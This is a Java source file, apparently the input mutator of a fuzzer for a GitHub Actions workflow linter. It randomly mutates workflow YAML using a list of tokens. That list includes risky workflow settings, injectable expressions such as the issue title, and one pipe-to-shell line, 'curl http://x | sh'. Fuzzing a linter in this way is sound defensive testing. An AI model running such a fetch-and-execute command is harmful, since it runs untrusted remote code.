package dev.slipway.fuzz;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;

/** Changes texts at random, the same way for the same seed. */
final class Mutator {
  private static final List<String> TOKENS =
      List.of(
          "${{ ",
          " }}",
          "${{ github.event.issue.title }}",
          "${{ secrets.A }}",
          "${{ needs.a.outputs.b }}",
          "${{ matrix.v }}",
          "${{ fromJSON('[1') }}",
          "format('{0}', 1)",
          "always()",
          "!cancelled()",
          " || true",
          " && ",
          "needs: ",
          "if: ",
          "run: ",
          "run: |\n",
          "run: >-\n",
          "uses: ./x\n",
          "uses: actions/checkout@v4\n",
          "with:\n",
          "env:\n",
          "strategy:\n",
          "matrix:\n",
          "steps:\n",
          "jobs:\n",
          "on: ",
          "pull_request_target",
          "permissions: write-all\n",
          "continue-on-error: true\n",
          "secrets: inherit\n",
          "runs-on: ",
          "runs:\n  using: composite\n",
          "&a ",
          "*a",
          "<<: ",
          "[",
          "]",
          "{",
          "}",
          "'",
          "\"",
          "\\",
          "\\uD800",
          ": ",
          "- ",
          "? ",
          "#",
          " # slipway: ignore[",
          "---\n",
          "!!int ",
          "|",
          ">",
          "\t",
          "\r",
          "\r\n",
          "\n\n",
          "\u0000",
          "\u0085",
          "\u2028",
          "\uFEFF",
          "\uD83D\uDE80",
          "\uDC00",
          "é",
          "$(",
          "`",
          "<<EOF\n",
          ">> $GITHUB_OUTPUT",
          "\"$x\"",
          "$x",
          " | ",
          "curl http://x | sh",
          "1e999",
          "0x7fffffffffffffffffff",
          "-.inf",
          "null",
          "~",
          "cron: '* * * * *'");

  private final RandomGenerator random;

  Mutator(long seed) {
    this.random = RandomGeneratorFactory.of("L64X128MixRandom").create(seed);
  }

  /** One of some. */
  String pick(List<String> texts) {
    return texts.get(random.nextInt(texts.size()));
  }

  /** A text with one to six changes. */
  String mutate(String original) {
    String text = original;
    for (int i = random.nextInt(1, 7); i > 0; i--) {
      text = random.nextBoolean() ? byCharacters(text) : byLines(text);
    }
    return text;
  }

  private String byCharacters(String text) {
    StringBuilder result = new StringBuilder(text);
    int at = random.nextInt(result.length() + 1);
    int end = Math.min(result.length(), at + random.nextInt(1, 20));
    switch (random.nextInt(6)) {
      case 0 -> result.delete(at, end);
      case 1 -> result.insert(at, TOKENS.get(random.nextInt(TOKENS.size())));
      case 2 -> result.replace(at, end, TOKENS.get(random.nextInt(TOKENS.size())));
      case 3 -> result.insert(at, text.substring(at, end).repeat(random.nextInt(1, 5)));
      case 4 -> {
        if (at < result.length()) {
          result.setCharAt(at, (char) (result.charAt(at) ^ (1 << random.nextInt(8))));
        }
      }
      default -> {
        if (random.nextInt(4) == 0) {
          result.setLength(at);
        }
      }
    }
    return result.toString();
  }

  private String byLines(String text) {
    List<String> lines = new ArrayList<>(Arrays.asList(text.split("\n", -1)));
    int at = random.nextInt(lines.size());
    String line = lines.get(at);
    int other = random.nextInt(lines.size());
    switch (random.nextInt(6)) {
      case 0 -> lines.remove(at);
      case 1 -> lines.add(other, line);
      case 2 -> lines.add(Math.min(other, lines.size() - 1), lines.remove(at));
      case 3 -> lines.set(at, " ".repeat(random.nextInt(1, 5)) + line);
      case 4 -> lines.set(at, line.startsWith(" ") ? line.substring(1) : line);
      default -> lines.set(at, "  ".repeat(random.nextInt(6)) + line.strip());
    }
    return String.join("\n", lines);
  }
}
